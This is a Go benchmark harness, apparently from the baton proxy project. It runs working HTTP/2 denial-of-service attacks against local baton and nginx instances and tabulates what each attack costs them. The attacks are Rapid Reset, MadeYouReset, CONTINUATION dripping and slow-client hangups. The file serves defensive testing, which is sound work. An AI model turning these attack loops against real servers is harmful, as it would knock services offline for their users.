package main

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/baton-proxy/baton/integration/internal/backend"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// The attack suite (-attacks FILE): the HTTP/2 and slow-client attacks of
// issue 20, each against a fresh instance of every target (baton and nginx
// with their defaults: 128 concurrent streams, 1,000 requests per
// connection), in front of the same backend. What each costs the target
// is measured from outside: the requests that reached the backend and the
// most it held at once, the workers' descriptors, memory and CPU. The
// table goes into FILE between the markers attacksBegin and attacksEnd.
const (
	attacksBegin = "<!-- attacks: begin (make attacks writes this table) -->"
	attacksEnd   = "<!-- attacks: end -->"
)

// attack is one case of the suite.
type attack struct {
	key, name, source string
	run               func(a *attackRun)
}

// attackResult is what one attack did to one target.
type attackResult struct {
	Streams      int     // requests the attacker opened
	Backend      uint64  // requests that reached the backend
	MostAtOnce   int64   // the most the backend held at once
	Ended        string  // how the target ended the attacker's connections
	FDsPeak      int     // the workers' descriptors at most, above idle
	FDsAfter     int     // and 1 s after the attack, above idle
	RSSGrowthMiB float64 // the workers' memory at its most, above idle
	CPUSeconds   float64 // the workers' CPU time during the attack
}

// attackRun is one attack on one target.
type attackRun struct {
	t        target
	be       *backend.Server
	deadline time.Time
	res      attackResult
	streams  atomic.Int64
	mu       sync.Mutex
	ends     map[string]int // how connections ended, counted
}

func (a *attackRun) ended(how string) {
	a.mu.Lock()
	a.ends[how]++
	a.mu.Unlock()
}

func attacks() []attack {
	return []attack{
		{"rapid-reset", "Rapid Reset: HEADERS + RST_STREAM as fast as one connection goes, 10 s", "CVE-2023-44487", func(a *attackRun) {
			a.h2Loop(1, false, func(c *h2attacker, id uint32) error {
				if err := c.get(id, "/sleep/5s"); err != nil {
					return err
				}
				return c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
			})
		}},
		{"rapid-reset-slow-accept", "Rapid Reset from 4 clients that reconnect, the backend not accepting, 10 s", "CVE-2023-44487; issue 20 item 2", func(a *attackRun) {
			a.be.PauseAccept(true)
			defer a.be.PauseAccept(false)
			a.h2Loop(4, true, func(c *h2attacker, id uint32) error {
				if err := c.get(id, "/"); err != nil {
					return err
				}
				return c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
			})
		}},
		{"madeyoureset-window-update", "MadeYouReset: 100 GETs, 30 ms later a WINDOW_UPDATE of 0 on each, for 12 s", "CVE-2025-8671; RFC 9113 §6.9", func(a *attackRun) {
			a.madeYouReset(func(c *h2attacker, id uint32) error {
				return c.fr.WriteRawFrame(http2.FrameWindowUpdate, 0, id, []byte{0, 0, 0, 0})
			})
		}},
		{"madeyoureset-data", "MadeYouReset: 100 GETs, 30 ms later DATA on each (half-closed), for 12 s", "CVE-2025-8671; RFC 9113 §5.1", func(a *attackRun) {
			a.madeYouReset(func(c *h2attacker, id uint32) error { return c.fr.WriteData(id, false, []byte("x")) })
		}},
		{"h1-hangup", "50 HTTP/1.1 clients hang up 200 ms into a request the backend answers in 10 s", "nginx proxy_ignore_client_abort off", func(a *attackRun) {
			a.h1Hangup()
		}},
		{"continuation-drip", "A header block dripped a CONTINUATION byte every 2 s (how long the connection lives, up to 70 s)", "CVE-2024-27316 family; slowloris", func(a *attackRun) {
			a.continuationDrip()
		}},
	}
}

// runAttacks runs the suite on the targets named, each attack on a fresh
// instance, and writes the table into path.
func (b *bench) runAttacks(names []string, be *backend.Server, path string) error {
	results := map[string]map[string]*attackResult{}
	for _, at := range attacks() {
		results[at.key] = map[string]*attackResult{}
		for _, name := range names {
			if name == "direct" {
				continue
			}
			b.run(name, "attack "+at.key, func(t target) error {
				res, err := b.attack(t, be, at)
				results[at.key][name] = res
				return err
			})
		}
	}
	return writeAttacks(path, names, results)
}

// attack runs at against t and measures what it cost t.
func (b *bench) attack(t target, be *backend.Server, at attack) (*attackResult, error) {
	// Warm: a request through, so that idle descriptors are counted.
	if code := probeHTTP(t.HTTPAddr(), "/"); code != 200 {
		return nil, fmt.Errorf("probe: %d", code)
	}
	workers := t.PIDs()["worker"]
	idleRSS, idleFDs := sumProc(workers)
	cpu0 := cpuTicks(workers)
	reqs0 := be.Requests.Load()
	be.MaxInFlight.Store(be.InFlight.Load())
	a := &attackRun{t: t, be: be, ends: map[string]int{}}

	var peakFDs, peakRSS atomic.Int64
	stop := make(chan struct{})
	var sampler sync.WaitGroup
	sampler.Go(func() {
		tick := time.NewTicker(50 * time.Millisecond)
		defer tick.Stop()
		for {
			rss, fds := sumProc(workers)
			if int64(fds) > peakFDs.Load() {
				peakFDs.Store(int64(fds))
			}
			if rss > peakRSS.Load() {
				peakRSS.Store(rss)
			}
			select {
			case <-tick.C:
			case <-stop:
				return
			}
		}
	})
	at.run(a)
	cpu := cpuTicks(workers) - cpu0
	close(stop)
	sampler.Wait()
	a.res.Streams = int(a.streams.Load())
	a.res.Backend = be.Requests.Load() - reqs0
	a.res.MostAtOnce = be.MaxInFlight.Load()
	a.res.FDsPeak = max(0, int(peakFDs.Load())-idleFDs)
	a.res.RSSGrowthMiB = float64(max(0, peakRSS.Load()-idleRSS)) / 1024 // KiB
	a.res.CPUSeconds = float64(cpu) / clockTicks
	time.Sleep(time.Second)
	_, fdsAfter := sumProc(workers)
	a.res.FDsAfter = max(0, fdsAfter-idleFDs)
	var ends []string
	for how, n := range a.ends {
		ends = append(ends, fmt.Sprintf("%s ×%d", how, n))
	}
	a.res.Ended = strings.Join(ends, ", ")
	if a.res.Ended == "" {
		a.res.Ended = "never"
	}
	return &a.res, nil
}

// h2attacker is one attacking HTTP/2 connection over TLS.
type h2attacker struct {
	c      net.Conn
	fr     *http2.Framer
	enc    *hpack.Encoder
	buf    bytes.Buffer
	closed chan struct{} // closed when the target ended the connection
	how    string        // how, once closed
}

func dialAttacker(addr string) (*h2attacker, error) {
	c, err := tls.Dial("tcp", addr, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}, ServerName: "a.example"})
	if err != nil {
		return nil, err
	}
	if p := c.ConnectionState().NegotiatedProtocol; p != "h2" {
		c.Close()
		return nil, fmt.Errorf("ALPN %q, want h2", p)
	}
	h := &h2attacker{c: c, fr: http2.NewFramer(c, c), closed: make(chan struct{})}
	h.enc = hpack.NewEncoder(&h.buf)
	h.fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	io.WriteString(c, http2.ClientPreface)
	h.fr.WriteSettings()
	go h.read()
	return h, nil
}

// read reads (and drops) what the target sends until it ends the
// connection, and notes how.
func (h *h2attacker) read() {
	defer close(h.closed)
	rd := http2.NewFramer(io.Discard, h.c)
	rd.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	for {
		f, err := rd.ReadFrame()
		if err != nil {
			if h.how == "" {
				h.how = "closed"
			}
			return
		}
		if g, ok := f.(*http2.GoAwayFrame); ok && g.ErrCode != http2.ErrCodeNo {
			h.how = "GOAWAY " + g.ErrCode.String()
		} else if ok && h.how == "" {
			h.how = "GOAWAY NO_ERROR"
		}
	}
}

// get opens stream id: a GET of path that ends the stream.
func (h *h2attacker) get(id uint32, path string) error {
	h.buf.Reset()
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "a.example"}, {":path", path}} {
		h.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	return h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.buf.Bytes(), EndStream: true, EndHeaders: true})
}

func (h *h2attacker) isClosed() bool {
	select {
	case <-h.closed:
		return true
	default:
		return false
	}
}

// h2Loop runs clients attackers for 10 s, each sending step for stream
// after stream, on a new connection when reconnect is set and the target
// ended the last one.
func (a *attackRun) h2Loop(clients int, reconnect bool, step func(c *h2attacker, id uint32) error) {
	a.deadline = time.Now().Add(10 * time.Second)
	var wg sync.WaitGroup
	for range clients {
		wg.Go(func() {
			for time.Now().Before(a.deadline) {
				c, err := dialAttacker(a.t.HTTPSAddr())
				if err != nil {
					time.Sleep(10 * time.Millisecond)
					continue
				}
				for id := uint32(1); time.Now().Before(a.deadline) && !c.isClosed() && id < 1<<31-1; id += 2 {
					if step(c, id) != nil {
						break
					}
					a.streams.Add(1)
				}
				c.c.Close()
				<-c.closed
				if c.how != "closed" || !time.Now().After(a.deadline) {
					a.ended(c.how)
				}
				if !reconnect {
					return
				}
			}
		})
	}
	wg.Wait()
}

// madeYouReset opens 100 GETs of a slow path on one connection, then, 30
// ms later (when the requests are at the backend), provokes a reset of
// each, and again, for 12 s or until the target ends the connection.
func (a *attackRun) madeYouReset(provoke func(c *h2attacker, id uint32) error) {
	a.deadline = time.Now().Add(12 * time.Second)
	c, err := dialAttacker(a.t.HTTPSAddr())
	if err != nil {
		return
	}
	defer c.c.Close()
	id := uint32(1)
	for time.Now().Before(a.deadline) && !c.isClosed() {
		first := id
		for range 100 {
			if c.get(id, "/sleep/10s") != nil {
				break
			}
			a.streams.Add(1)
			id += 2
		}
		time.Sleep(30 * time.Millisecond)
		for s := first; s < id; s += 2 {
			if provoke(c, s) != nil {
				break
			}
		}
	}
	if c.isClosed() {
		a.ended(c.how)
	}
}

// h1Hangup: 50 HTTP/1.1 clients ask for a 10 s response and hang up 200 ms
// later; the descriptors held 1 s after tell whether the upstream requests
// were ended.
func (a *attackRun) h1Hangup() {
	var conns []net.Conn
	for i := range 50 {
		c, err := net.Dial("tcp", a.t.HTTPAddr())
		if err != nil {
			continue
		}
		fmt.Fprintf(c, "GET /sleep/10s?%d HTTP/1.1\r\nHost: a.example\r\n\r\n", i)
		a.streams.Add(1)
		conns = append(conns, c)
	}
	time.Sleep(200 * time.Millisecond)
	for _, c := range conns {
		c.Close()
	}
	time.Sleep(time.Second)
	if n := a.be.InFlight.Load(); n > 0 {
		a.ended(fmt.Sprintf("%d still at the backend 1 s later", n))
	} else {
		a.ended("upstream ended")
	}
}

// continuationDrip opens a header block and drips one CONTINUATION byte
// every 2 s, for up to 70 s, and notes how long the target kept the
// connection.
func (a *attackRun) continuationDrip() {
	c, err := dialAttacker(a.t.HTTPSAddr())
	if err != nil {
		return
	}
	defer c.c.Close()
	c.buf.Reset()
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "a.example"}, {":path", "/"}, {"x-drip", strings.Repeat("d", 64)}} {
		c.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	blk := append([]byte(nil), c.buf.Bytes()...)
	start := time.Now()
	c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: blk[:1], EndStream: true})
	a.streams.Add(1)
	tick := time.NewTicker(2 * time.Second)
	defer tick.Stop()
	for i := 1; i < len(blk)-1 && time.Since(start) < 70*time.Second; i++ {
		select {
		case <-c.closed:
			a.ended(fmt.Sprintf("%s after %.0f s", c.how, time.Since(start).Seconds()))
			return
		case <-tick.C:
		}
		if c.fr.WriteContinuation(1, false, blk[i:i+1]) != nil {
			break
		}
	}
	select {
	case <-c.closed:
		a.ended(fmt.Sprintf("%s after %.0f s", c.how, time.Since(start).Seconds()))
	case <-time.After(time.Second):
		a.ended(fmt.Sprintf("open after %.0f s", time.Since(start).Seconds()))
	}
}

// probeHTTP answers the status of a GET of path, 0 on failure.
func probeHTTP(addr, path string) int {
	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return 0
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: a.example\r\nConnection: close\r\n\r\n", path)
	b, _ := io.ReadAll(c)
	f := strings.Fields(string(b))
	if len(f) < 2 {
		return 0
	}
	code, _ := strconv.Atoi(f[1])
	return code
}

// writeAttacks writes the results as a table into path, between the
// markers (which must be there).
func writeAttacks(path string, names []string, results map[string]map[string]*attackResult) error {
	var w strings.Builder
	w.WriteString(attacksBegin + "\n\n")
	fmt.Fprintf(&w, "Measured %s on %s (%s), with `make attacks`.\n\n", time.Now().UTC().Format("2006-01-02"), machine("")["cpu"], machine("")["nginx"])
	w.WriteString("| attack | source | target | requests sent | reached the backend | most at the backend at once | the target ended the connections | worker descriptors: peak / 1 s after (above idle) | worker memory growth | worker CPU |\n")
	w.WriteString("|---|---|---|---|---|---|---|---|---|---|\n")
	for _, at := range attacks() {
		for _, name := range names {
			r := results[at.key][name]
			if r == nil {
				continue
			}
			fmt.Fprintf(&w, "| %s | %s | %s | %d | %d | %d | %s | %d / %d | %.1f MiB | %.2f s |\n",
				at.name, at.source, name, r.Streams, r.Backend, r.MostAtOnce, r.Ended, r.FDsPeak, r.FDsAfter, r.RSSGrowthMiB, r.CPUSeconds)
		}
	}
	w.WriteString("\n" + attacksEnd)
	b, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	s := string(b)
	i, j := strings.Index(s, attacksBegin), strings.Index(s, attacksEnd)
	if i < 0 || j < i {
		return fmt.Errorf("%s: no %q ... %q markers", path, attacksBegin, attacksEnd)
	}
	return os.WriteFile(path, []byte(s[:i]+w.String()+s[j+len(attacksEnd):]), 0o644)
}
